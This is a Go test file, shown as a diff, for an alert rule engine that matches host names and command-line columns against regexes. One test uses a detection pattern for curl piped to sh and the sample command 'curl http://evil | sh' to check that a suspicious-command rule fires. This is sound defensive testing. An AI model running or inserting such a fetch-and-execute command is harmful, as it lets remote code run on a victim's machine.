@@ -0,0 +1,96 @@
+package main
+
+import "testing"
+
+func mustCompile(t *testing.T, r *Rule) *Rule {
+	t.Helper()
+	if err := r.compile(); err != nil {
+		t.Fatalf("compile(%+v): %v", r, err)
+	}
+	return r
+}
+
+func TestRuleSetEvaluateFirstMatchWins(t *testing.T) {
+	rs := &RuleSet{
+		rules: []Rule{
+			*mustCompile(t, &Rule{
+				Name:   "quiet-laptops",
+				Match:  RuleMatch{Host: "^laptop-"},
+				Action: RuleAction{Suppress: true},
+			}),
+			*mustCompile(t, &Rule{
+				Name:   "high-priority-servers",
+				Match:  RuleMatch{Host: "^server-"},
+				Action: RuleAction{Priority: 5, Category: "critical"},
+			}),
+		},
+		Default: RuleAction{Priority: 2},
+	}
+
+	action, matched := rs.Evaluate(EvalInput{Host: "laptop-42"})
+	if !matched || !action.Suppress {
+		t.Fatalf("expected laptop-42 to match the suppress rule, got action=%+v matched=%v", action, matched)
+	}
+
+	action, matched = rs.Evaluate(EvalInput{Host: "server-1"})
+	if !matched || action.Priority != 5 || action.Category != "critical" {
+		t.Fatalf("expected server-1 to match the high-priority rule, got action=%+v matched=%v", action, matched)
+	}
+
+	action, matched = rs.Evaluate(EvalInput{Host: "desktop-9"})
+	if matched || action.Priority != 2 {
+		t.Fatalf("expected desktop-9 to fall through to the default action, got action=%+v matched=%v", action, matched)
+	}
+}
+
+func TestRuleSetEvaluateRequiresEveryPredicate(t *testing.T) {
+	rs := &RuleSet{
+		rules: []Rule{
+			*mustCompile(t, &Rule{
+				Name: "suspicious-cmdline-on-prod",
+				Match: RuleMatch{
+					Host:    "^prod-",
+					Columns: map[string]string{"cmdline": "curl.*\\|.*sh"},
+				},
+				Action: RuleAction{Priority: 5},
+			}),
+		},
+		Default: RuleAction{Priority: 1},
+	}
+
+	// Host matches but the column predicate doesn't: the rule must not fire.
+	action, matched := rs.Evaluate(EvalInput{
+		Host:    "prod-1",
+		Columns: map[string]string{"cmdline": "ls -la"},
+	})
+	if matched || action.Priority != 1 {
+		t.Fatalf("expected no match when only one predicate is satisfied, got action=%+v matched=%v", action, matched)
+	}
+
+	// Both predicates match: the rule fires.
+	action, matched = rs.Evaluate(EvalInput{
+		Host:    "prod-1",
+		Columns: map[string]string{"cmdline": "curl http://evil | sh"},
+	})
+	if !matched || action.Priority != 5 {
+		t.Fatalf("expected the rule to fire when every predicate matches, got action=%+v matched=%v", action, matched)
+	}
+}
+
+func TestRuleSetEvaluateMissingColumnDoesNotMatch(t *testing.T) {
+	rs := &RuleSet{
+		rules: []Rule{
+			*mustCompile(t, &Rule{
+				Name:   "path-rule",
+				Match:  RuleMatch{Columns: map[string]string{"path": ".*"}},
+				Action: RuleAction{Priority: 5},
+			}),
+		},
+		Default: RuleAction{Priority: 1},
+	}
+
+	action, matched := rs.Evaluate(EvalInput{Columns: map[string]string{"cmdline": "ls"}})
+	if matched || action.Priority != 1 {
+		t.Fatalf("expected no match when the predicate's column is absent, got action=%+v matched=%v", action, matched)
+	}
+}